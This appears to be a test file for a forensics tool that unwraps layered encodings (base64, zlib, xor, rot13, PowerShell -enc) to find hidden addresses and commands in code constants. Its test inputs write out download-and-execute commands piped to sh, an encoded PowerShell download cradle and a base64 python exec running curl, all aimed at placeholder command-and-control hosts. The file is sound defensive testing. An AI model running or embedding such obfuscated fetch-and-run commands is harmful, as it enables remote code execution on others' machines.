from __future__ import annotations

import base64
import bz2
import codecs
import hashlib
import itertools
import random
import time
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from benchmarks.hidden.encodings import BY_NAME, ENCODINGS, hidden
from toadstone.forensics.candidates import may_hold
from toadstone.forensics.unwrap import unwrap

BLIND = [encoding.name for encoding in ENCODINGS if encoding.blind]
ADDRESSES = ["http://203.0.113.7:8443/beacon?id=1", "https://c2.example.com/gate.php", "curl http://198.51.100.9/x | sh"]


@pytest.mark.parametrize("name", BLIND)
@pytest.mark.parametrize("address", ADDRESSES)
def test_one_stage(name, address):
    constant = BY_NAME[name].encode(address.encode(), random.Random(0))
    found = unwrap(constant)
    assert found is not None
    assert address in found.content.text
    assert may_hold(constant)
    if constant.isascii():
        assert may_hold(constant.decode())


@settings(max_examples=250, deadline=None, derandomize=True)
@given(st.lists(st.sampled_from(BLIND), min_size=2, max_size=4), st.sampled_from(ADDRESSES))
def test_stages_inside_each_other(names, address):
    made = hidden(address.encode(), tuple(names), random.Random(0))
    assert made is not None
    if address.encode() in made[0]:
        return
    found = unwrap(made[0])
    assert found is not None
    assert address in found.content.text


def test_xor_with_one_byte_is_found_by_the_differences():
    for key in range(1, 256):
        constant = bytes(value ^ key for value in b"POST http://203.0.113.7/x")
        found = unwrap(constant)
        assert found is not None, key
        assert "http://203.0.113.7/x" in found.content.text


def test_the_steps_are_told_outside_in():
    constant = base64.b64encode(zlib.compress(b"http://203.0.113.7/x")[::-1]).decode()
    found = unwrap(constant)
    assert found is not None
    assert found.steps == ("zlib", "reversed", "base64")


def test_encoded_words_of_a_command():
    hidden_command = base64.b64encode(b"wget http://203.0.113.7/x").decode()
    for text in (f"echo {hidden_command} | base64 -d | sh", f'bash -c "$(echo {hidden_command} | base64 --decode)"'):
        found = unwrap(text)
        assert found is not None
        assert "203.0.113.7" in found.content.text
    wide = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/x')".encode("utf-16-le")).decode()
    found = unwrap(f"powershell -nop -enc {wide}")
    assert found is not None
    assert "http://203.0.113.7/x" in found.content.text
    inner = base64.b64encode(b"import os;os.system('curl http://203.0.113.7/x')").decode()
    found = unwrap(f"python3 -c \"import base64;exec(base64.b64decode('{inner}'))\"")
    assert found is not None
    assert found.content.kind == "python"


ORDINARY = [
    "The quick brown fox jumps over the lazy dog. See https://example.com/docs for details.",
    "d41d8cd98f00b204e9800998ecf8427e",
    "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "550e8400-e29b-41d4-a716-446655440000",
    "configuration_of_the_model",
    "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/",
    "0123456789abcdefghijklmnopqrstuvwxyz",
    "transformers.models.llama.modeling_llama.LlamaForCausalLM",
    "application/vnd.openxmlformats-officedocument",
    "SELECT * FROM models WHERE name = %s AND value = %(value)s",
    "%Y-%m-%dT%H:%M:%S.%fZ",
    "1.2.3.4",
    "10.0.19041.1",
    "2024.10.11.12",
    "https://huggingface.co/models?filter=text%20generation%20%3D%3E%20x",
    "a=1&b=2&c=%20%20%20",
    "\\d{1,3}\\.\\d{1,3}\\.\\d{1,3}",
    "\\x1b[31m\\x1b[1m\\x1b[0m",
    "&#169;&#8212;&#8217; and so on",
    "lorem ipsum dolor sit amet consectetur adipiscing elit",
    "model.layers.0.self_attn.q_proj.weight",
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
    base64.b64encode(b"The licence of this text permits its use, copying and modification.").decode(),
    base64.b64encode(zlib.compress(b"just a table of words " * 40)).decode(),
    base64.b64encode(hashlib.sha512(b"signature").digest() * 4).decode(),
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9",
    "[1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12]",
    "python -c 'print(1)'",
    "echo hello world > /tmp/greetings.txt",
    bytes(range(256)),
    bytes(64),
    zlib.compress(b"nothing to see " * 50),
    bz2.compress(b"nothing to see " * 50),
]


@pytest.mark.parametrize("constant", ORDINARY, ids=range(len(ORDINARY)))
def test_ordinary_constants_hold_nothing(constant):
    assert unwrap(constant) is None


def test_random_constants_hold_nothing():
    choice = random.Random(11)
    alphabets = ["0123456789abcdef", "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", "".join(map(chr, range(33, 127)))]
    alphabets += ["abcdefghijklmnopqrstuvwxyz._-", "0123456789.", "0123456789, "]
    for count in range(1500):
        alphabet = alphabets[count % len(alphabets)]
        text = "".join(choice.choice(alphabet) for _ in range(choice.randrange(12, 90)))
        found = unwrap(text)
        assert found is None, (text, found)
        data = choice.randbytes(choice.randrange(12, 200))
        assert unwrap(data) is None, data


def test_words_of_prose_hold_nothing(root):
    text = " ".join(path.read_text("utf-8") for path in sorted((root / "docs").glob("*.md")))
    words = [word for word in text.split() if len(word) >= 12]
    sentences = text.split("\n\n")
    told = [found for constant in (*words, *sentences) if may_hold(constant) and (found := unwrap(constant)) is not None]
    assert not [found for found in told if found.steps != ("shell word",)]


@pytest.mark.parametrize(
    "constant",
    [
        base64.b64encode(zlib.compress(bytes(100 << 20), 9)).decode(),
        "aGVsbG8gd29ybGQg" * 200_000,
        "=41" * 500_000,
        "%41" * 500_000,
        "1, " * 300_000,
        "(" * 1_000_000,
        "//:ptth" * 100_000,
        "echo " + "A" * 1_000_000,
        "begin 644 x\n" + "M" * 500_000,
        b"\x1f\x8b\x08" + bytes(1_000_000),
        b"\xe3" * 1_000_000,
        b"\x80\x04" * 500_000,
    ],
    ids=range(12),
)
def test_hostile_constants_cost_little(constant):
    begin = time.perf_counter()
    unwrap(constant)
    assert time.perf_counter() - begin < 12


def test_many_stages_of_one_kind():
    constant = b"http://203.0.113.7/x"
    for _ in range(7):
        constant = base64.b64encode(constant)
    found = unwrap(constant)
    assert found is not None
    assert found.steps == ("base64",) * 7


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.one_of(st.binary(min_size=12, max_size=300), st.text(min_size=12, max_size=300)))
def test_any_constant(constant):
    unwrap(constant)
    may_hold(constant)


def test_rot13_of_dotted_names_is_nothing():
    names = ["".join(part) for part in itertools.product(["parser", "cnefre"], [".arg", ".net", ".pbz", ".com"], ["", ".next"])]
    assert [unwrap(name) for name in names] == [None] * len(names)
    assert unwrap(codecs.encode("https://c2.example.com/x", "rot13")) is not None
